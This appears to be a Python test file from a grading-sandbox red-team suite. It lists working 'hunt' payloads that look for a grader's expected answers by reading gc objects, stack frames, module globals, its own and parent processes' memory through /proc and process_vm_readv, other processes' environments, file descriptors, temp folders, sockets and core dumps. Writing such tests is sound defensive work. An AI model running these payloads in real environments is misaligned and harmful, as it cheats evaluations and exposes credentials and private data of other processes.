"""Forging by finding expected values: in memory, frames, files, descriptors, other processes."""

# fmt: off
from tests.attacks.model import FUNCTION, hunt

MAPS = """
def regions(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            where, mode, *_ = line.split()
            if "r" in mode and "w" in mode and "[v" not in line:
                low, high = (int(part, 16) for part in where.split("-"))
                if high - low < 1 << 28:
                    yield low, high
"""

ATTACKS = [
    hunt("hunt_gc", "reads every object that gc knows", """
import gc
def pieces(key):
    for thing in gc.get_objects():
        if type(thing) in (list, tuple, dict) and len(thing) < 1000:
            yield repr(thing).encode("utf-8", "replace") if len(thing) < 50 else b""
    for thing in gc.get_objects():
        for each in gc.get_referents(thing):
            if type(each) is str:
                yield each.encode("utf-8", "replace")
            elif type(each) is bytes:
                yield each
"""),
    hunt("hunt_frames", "reads locals and constants of all frames of all threads", """
import sys
def pieces(key):
    for frame in [sys._getframe(), *sys._current_frames().values()]:
        while frame:
            yield repr(frame.f_locals).encode("utf-8", "replace")
            yield repr(frame.f_code.co_consts).encode("utf-8", "replace")
            yield repr({k: v for k, v in frame.f_globals.items() if k[:1] != "_"}).encode()
            frame = frame.f_back
"""),
    hunt("hunt_tracebacks", "reads the frames behind an exception and its context", """
import sys
def pieces(key):
    try:
        raise KeyError(key)
    except KeyError as error:
        step = error.__traceback__
        while step:
            frame = step.tb_frame
            while frame:
                yield repr(frame.f_locals).encode("utf-8", "replace")
                frame = frame.f_back
            step = step.tb_next
    yield repr(sys.exc_info()).encode()
    yield repr(getattr(sys, "last_value", "")).encode()
"""),
    hunt("hunt_modules", "reads every variable of every module", """
import sys
def pieces(key):
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()) if hasattr(module, "__dict__") else ():
            if type(value) in (str, list, dict, tuple, bytes):
                yield repr(value)[:100_000].encode("utf-8", "replace")
"""),
    hunt("hunt_own_memory", "reads its own memory through /proc/self/mem", MAPS + """
def pieces(key):
    with open("/proc/self/mem", "rb", 0) as memory:
        for low, high in regions("self"):
            try:
                memory.seek(low)
                yield memory.read(high - low)
            except (OSError, ValueError):
                pass
"""),
    hunt("hunt_heap", "reads memory that was freed, with ctypes and without /proc", """
import ctypes
def pieces(key):
    libc = ctypes.CDLL(None)
    libc.malloc.restype = ctypes.c_void_p
    for size in (16, 48, 64, 128, 256, 512, 1024, 4096, 65536, 1 << 20):
        for _ in range(200):
            where = libc.malloc(ctypes.c_size_t(size))
            if where:
                yield ctypes.string_at(where, size)
    here = id(pieces) & ~0xFFFFF
    readable, writable = __import__("os").pipe()
    for step in range(-64, 64):  # write() tells whether an address can be read
        address = here + step * 0x10000
        if libc.write(writable, ctypes.c_void_p(address), ctypes.c_size_t(4096)) > 0:
            __import__("os").read(readable, 1 << 16)
            yield ctypes.string_at(address, 4096)
"""),
    hunt("hunt_parent_memory", "reads the memory of its ancestors through /proc", MAPS + """
import os
def pieces(key):
    pid = os.getppid()
    for _ in range(4):
        if pid <= 1:
            return
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for low, high in regions(pid):
                    try:
                        memory.seek(low)
                        yield memory.read(high - low)
                    except (OSError, ValueError):
                        pass
        except OSError:
            pass
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rsplit(")", 1)[1].split()[1])
"""),
    hunt("hunt_parent_vm", "reads the memory of its parent with process_vm_readv", MAPS + """
import ctypes, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def pieces(key):
    libc = ctypes.CDLL(None)
    pid = os.getppid()
    for low, high in regions(pid):
        data = ctypes.create_string_buffer(min(high - low, 1 << 24))
        mine = Span(ctypes.addressof(data), len(data))
        theirs = Span(low, len(data))
        if libc.syscall(310, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            yield data.raw
"""),
    hunt("hunt_process_table", "reads arguments, environments and folders of all processes", """
import os
def pieces(key):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ", "comm"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    yield file.read(1 << 20)
            except OSError:
                pass
"""),
    hunt("hunt_input_file", "reads the file of rows, by name, by folder, by /proc/*/fd", """
import glob, os
def pieces(key):
    places = ["@ROWS@", *glob.glob("@STAGE@/*"), *glob.glob("/proc/[0-9]*/fd/*")[:2000],
              *glob.glob("/proc/[0-9]*/cwd/*.jsonl")[:200],
              *("/proc/%s/root@ROWS@" % pid for pid in ("1", os.getppid(), "self"))]
    for path in places:
        try:
            if os.path.isfile(path):
                handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                yield os.read(handle, 1 << 24)
                os.close(handle)
        except OSError:
            pass
"""),
    hunt("hunt_folders", "reads whatever lies in its own and in temporary folders", """
import os
def pieces(key):
    for top in (".", "/tmp", "/var/tmp", "/dev/shm", "@TMPDIR@", "/run", "/work"):
        count = 0
        for folder, _, names in os.walk(top):
            for name in names:
                count += 1
                if count > 400:
                    break
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                        with open(path, "rb") as file:
                            yield file.read()
                except OSError:
                    pass
"""),
    hunt("hunt_descriptors", "reads, peeks and maps every descriptor it was given", """
import mmap, os, socket
def pieces(key):
    for fd in range(256):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            yield os.pread(fd, 1 << 20, 0)
        except OSError:
            pass
        try:
            yield bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ))
        except (OSError, ValueError):
            pass
        try:
            sock = socket.socket(fileno=os.dup(fd))
            yield sock.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            yield os.readlink(f"/proc/self/fd/{fd}").encode()
        except OSError:
            pass
""", FUNCTION),
    hunt("hunt_questions", "asks its sockets for tests, expected values and source", """
import json, os, socket, stat, struct
def pieces(key):
    for fd in range(64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            sock = socket.socket(fileno=os.dup(fd))
            for ask in ("tests", "expected", "source", "help", "hint", "case", "next", "inspect"):
                data = json.dumps({"op": ask, "get": ask, "f": ask, "a": [key]}).encode()
                sock.sendall(struct.pack("!I", len(data)) + data)
                sock.settimeout(0.05)
                try:
                    yield sock.recv(1 << 16)
                except OSError:
                    pass
        except OSError:
            pass
""", ("io", "asserts")),
    hunt("hunt_source_files", "reads sources of the callers with inspect and linecache", """
import inspect, linecache, sys
def pieces(key):
    for info in inspect.stack():
        yield repr(info.code_context).encode()
        try:
            yield inspect.getsource(info.frame).encode("utf-8", "replace")
        except OSError:
            pass
    yield repr(linecache.cache)[:1 << 20].encode("utf-8", "replace")
    yield repr(sys.argv).encode()
    yield repr(sys.orig_argv).encode()
"""),
    hunt("hunt_core", "dies with a core dump laid for the next to read", """
import glob, os, resource
def pieces(key):
    for path in [*glob.glob("core*"), *glob.glob("/tmp/core*"), *glob.glob("/var/crash/*")]:
        try:
            with open(path, "rb") as file:
                yield file.read(1 << 26)
        except OSError:
            pass
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 26, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    pid = os.fork()
    if pid == 0:
        os.abort()
    os.waitpid(pid, 0)
    for path in glob.glob("core*"):
        with open(path, "rb") as file:
            yield file.read(1 << 26)
"""),
]
